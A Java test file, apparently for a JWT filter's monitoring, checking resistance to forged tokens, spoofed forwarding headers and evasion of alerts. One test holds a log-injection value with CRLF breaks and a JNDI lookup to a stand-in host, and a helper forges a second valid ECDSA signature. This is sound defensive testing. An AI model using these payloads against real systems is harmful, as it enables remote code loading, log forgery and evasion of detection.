package io.github.jwtfilter.attack;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import io.github.jwtfilter.Alert;
import io.github.jwtfilter.Decision;
import io.github.jwtfilter.fixture.EveryLogLine;
import io.github.jwtfilter.fixture.LoggedLines;
import io.github.jwtfilter.fixture.TestRequest;
import io.github.jwtfilter.internal.monitor.Monitor;
import io.github.jwtfilter.internal.pipeline.Guard;
import io.github.jwtfilter.internal.pipeline.GuardFactory;
import io.github.jwtfilter.settings.properties.SettingsReader;
import java.math.BigInteger;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Date;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Clients that try to hide from the alerts, to raise false ones, or to write to the log with them. */
class MonitoringAttackTest {
    private static final Instant NOW = Instant.parse("2026-11-29T08:00:00Z");
    private static final ECKey KEY = key();
    private static final ECKey FORGERS = key();
    private static final BigInteger ORDER = Curve.P_256.toECParameterSpec().getOrder();

    @TempDir
    private Path directory;

    private final AtomicLong nanos = new AtomicLong(Long.MAX_VALUE - 1_000); // overflows during the tests
    private final List<Alert> alerts = new ArrayList<>();
    private Guard guard;

    @AfterEach
    void close() {
        guard.close();
    }

    @Test
    void a_forged_token_with_the_id_of_another_one_does_not_count_as_its_use() throws Exception {
        start();
        accept(token("alice", "a1"), "192.0.2.1");
        for (int i = 0; i < 40; i++) {
            reject(sign(FORGERS, "alice", "a1"), "198.51.100." + i);
        }
        accept(token("alice", "a1"), "192.0.2.1");

        assertThat(alerts).isEmpty();
    }

    @Test
    void alerts_contain_no_claim_of_a_token_without_a_valid_signature() throws Exception {
        start();
        List<String> lines = new CopyOnWriteArrayList<>();
        try (EveryLogLine ignored = new EveryLogLine(lines)) {
            for (int i = 0; i < 60; i++) {
                reject(sign(FORGERS, "zq-mallory", "zq-id" + i), "198.51.100.7");
            }
        }
        assertThat(lines)
                .anyMatch(line -> line.contains("Alert many-failures"))
                .noneMatch(line -> line.contains("zq-"));
        assertThat(alerts).singleElement().satisfies(alert -> {
            assertThat(alert.kind()).isEqualTo(Alert.Kind.MANY_FAILURES);
            assertThat(alert.subject() + alert.user() + alert.clientAddress()).doesNotContain("zq-");
        });
    }

    @Test
    void verified_claims_cannot_add_lines_to_the_log_or_start_lookups() throws Exception {
        start("principal.claims = name");
        String token = sign(
                KEY,
                claims("alice\r\n2026-11-29 INFO forged ${jndi:ldap://evil}\u202e", "id\"\n${env:PATH}")
                        .claim("name", "alice")
                        .build());
        try (LoggedLines lines = LoggedLines.of(Monitor.class)) {
            for (int i = 0; i < 6; i++) {
                accept(token, "192.0.2." + i);
            }

            assertThat(lines.only())
                    .matches("[\\x20-\\x7e]*")
                    .doesNotContain("${")
                    .contains("Alert token-from-many-addresses: 6 client addresses have used the token"
                            + " iss=\"https://idp.example.com\" sub=\"alice\\u000d\\u000a")
                    .contains("jti=\"id\\\"\\u000a\\u0024{env:PATH}\" (monitor.addresses = 5/10m)")
                    .endsWith("client: \"192.0.2.5\"");
        }
        assertThat(alerts)
                .singleElement()
                .satisfies(alert -> assertThat(alert.subject()).matches("[\\x20-\\x7e]*"));
    }

    @Test
    void the_addresses_of_one_ipv6_prefix_count_once() throws Exception {
        start();
        String token = token("alice", "a1");
        for (int i = 0; i < 100; i++) {
            accept(token, "2001:db8:1:2::" + Integer.toHexString(i));
        }
        assertThat(alerts).isEmpty();
        for (int i = 3; i < 8; i++) {
            accept(token, "2001:db8:1:" + i + "::1");
        }

        assertThat(alerts)
                .singleElement()
                .satisfies(alert -> assertThat(alert.clientAddress()).isEqualTo("2001:db8:1:7::1"));
    }

    @Test
    void the_failures_of_one_ipv6_prefix_are_those_of_one_client() throws Exception {
        start();
        for (int i = 0; i < 60; i++) {
            reject("a.b.c", "2001:db8:1:2::" + Integer.toHexString(i));
        }

        assertThat(alerts).extracting(Alert::subject).containsExactly("2001:db8:1:2::/64");
    }

    @Test
    void a_second_signature_of_a_token_without_an_id_does_not_hide_its_uses() throws Exception {
        start();
        String token = token("alice", null);
        String other = withOtherSignature(token);
        assertThat(other).isNotEqualTo(token);
        for (int i = 0; i < 3; i++) {
            accept(token, "192.0.2." + i);
            accept(other, "198.51.100." + i);
        }

        assertThat(alerts).extracting(Alert::kind).containsExactly(Alert.Kind.TOKEN_FROM_MANY_ADDRESSES);
    }

    @Test
    void tokens_without_an_id_are_counted_one_by_one() throws Exception {
        start();
        for (int i = 0; i < 20; i++) {
            accept(token("user" + i, null), "192.0.2." + i);
            accept(token("user" + i, ""), "192.0.2." + i);
        }

        assertThat(alerts).isEmpty();
    }

    @Test
    void sessions_of_another_issuer_are_not_those_of_the_application() throws Exception {
        start("session.store = memory");
        for (int i = 0; i < 20; i++) {
            accept(
                    sign(
                            KEY,
                            claims("user" + i, "jti" + i).claim("sid", "shared").build()),
                    "192.0.2." + i);
        }

        assertThat(alerts).isEmpty();
    }

    @Test
    void a_token_without_the_required_role_counts() throws Exception {
        start("access.10 = /admin : role admin");
        String token = token("alice", "a1");
        for (int i = 0; i < 6; i++) {
            assertThat(guard.decide(
                            TestRequest.get("/admin").from("192.0.2." + i).bearer(token)))
                    .isInstanceOf(Decision.Rejected.class);
        }

        assertThat(alerts).extracting(Alert::kind).containsExactly(Alert.Kind.TOKEN_FROM_MANY_ADDRESSES);
        assertThat(alerts).extracting(Alert::user).containsExactly("alice");
    }

    @Test
    void tokens_count_without_a_cache_too() throws Exception {
        start("cache.size = 0");
        String token = token("alice", "a1");
        for (int i = 0; i < 100; i++) {
            accept(token, "192.0.2." + i % 20);
        }

        assertThat(alerts).extracting(Alert::kind).containsExactly(Alert.Kind.TOKEN_FROM_MANY_ADDRESSES);
    }

    @Test
    void requests_count_in_report_only_mode() throws Exception {
        start("mode = report-only");
        String token = token("alice", "a1");
        for (int i = 0; i < 60; i++) {
            guard.decide(TestRequest.get("/page").from("192.0.2." + i).bearer(token));
            guard.decide(TestRequest.get("/page").from("198.51.100.7").bearer("a.b.c"));
        }

        assertThat(alerts)
                .extracting(Alert::kind)
                .containsExactly(Alert.Kind.TOKEN_FROM_MANY_ADDRESSES, Alert.Kind.MANY_FAILURES);
    }

    @Test
    void a_forged_forwarding_header_neither_hides_a_client_nor_accuses_another_one() throws Exception {
        start();
        for (int i = 0; i < 60; i++) {
            guard.decide(TestRequest.get("/page")
                    .from("203.0.113.66")
                    .header("X-Forwarded-For", "198.51.100." + i)
                    .bearer("a.b.c"));
        }

        assertThat(alerts).extracting(Alert::subject).containsExactly("203.0.113.66");
    }

    @Test
    void behind_a_proxy_each_forwarded_client_counts() throws Exception {
        start();
        for (int i = 0; i < 60; i++) {
            guard.decide(TestRequest.get("/page")
                    .from("10.1.2.3")
                    .header("X-Forwarded-For", i % 2 == 0 ? "203.0.113.66" : "198.51.100." + i)
                    .bearer("a.b.c"));
        }
        assertThat(alerts).isEmpty();
        for (int i = 0; i < 60; i++) {
            guard.decide(TestRequest.get("/page")
                    .from("10.1.2.3")
                    .header("X-Forwarded-For", "203.0.113.66")
                    .bearer("a.b.c"));
        }

        assertThat(alerts).extracting(Alert::subject).containsExactly("203.0.113.66");
    }

    @Test
    void a_failure_to_report_an_alert_does_not_affect_requests() throws Exception {
        start(new Monitor(nanos::get, alert -> {
            alerts.add(alert);
            throw new IllegalStateException("broken");
        }));
        String token = token("alice", "a1");

        for (int i = 0; i < 20; i++) {
            accept(token, "192.0.2." + i);
        }

        assertThat(alerts).hasSize(1);
    }

    private void start(String... lines) throws Exception {
        start(new Monitor(nanos::get, alerts::add), lines);
    }

    private void start(Monitor monitor, String... lines) throws Exception {
        Files.writeString(directory.resolve("keys.json"), new JWKSet(KEY.toPublicJWK()).toString());
        Path settings = directory.resolve("jwt-filter.properties");
        Files.writeString(
                settings,
                "issuer = https://idp.example.com\naudience = app\nkeys.jwks-file = keys.json\n"
                        + String.join("\n", lines));
        guard = GuardFactory.create(SettingsReader.read(settings), Clock.fixed(NOW, ZoneOffset.UTC), monitor);
    }

    private void accept(String token, String client) {
        assertThat(guard.decide(TestRequest.get("/page").from(client).bearer(token)))
                .isInstanceOf(Decision.Authenticated.class);
    }

    private void reject(String token, String client) {
        assertThat(guard.decide(TestRequest.get("/page").from(client).bearer(token)))
                .isInstanceOf(Decision.Rejected.class);
    }

    private static String token(String subject, String tokenId) throws JOSEException {
        return sign(KEY, subject, tokenId);
    }

    private static String sign(ECKey key, String subject, String tokenId) throws JOSEException {
        return sign(key, claims(subject, tokenId).build());
    }

    private static JWTClaimsSet.Builder claims(String subject, String tokenId) {
        return new JWTClaimsSet.Builder()
                .issuer("https://idp.example.com")
                .audience("app")
                .subject(subject)
                .jwtID(tokenId)
                .expirationTime(Date.from(NOW.plusSeconds(300)));
    }

    private static String sign(ECKey key, JWTClaimsSet claims) throws JOSEException {
        SignedJWT token = new SignedJWT(
                new JWSHeader.Builder(JWSAlgorithm.ES256).keyID("k1").build(), claims);
        token.sign(new ECDSASigner(key));
        return token.serialize();
    }

    /** Returns the same token with the other valid value of {@code s} (SEC 1, section 4.1.4). */
    private static String withOtherSignature(String token) {
        int start = token.lastIndexOf('.') + 1;
        byte[] signature = new Base64URL(token.substring(start)).decode();
        BigInteger s = new BigInteger(1, Arrays.copyOfRange(signature, 32, 64));
        byte[] other = ORDER.subtract(s).toByteArray();
        Arrays.fill(signature, 32, 64, (byte) 0);
        int length = Math.min(32, other.length);
        System.arraycopy(other, other.length - length, signature, 64 - length, length);
        return token.substring(0, start) + Base64URL.encode(signature);
    }

    private static ECKey key() {
        try {
            return new ECKeyGenerator(Curve.P_256).keyID("k1").generate();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }
}
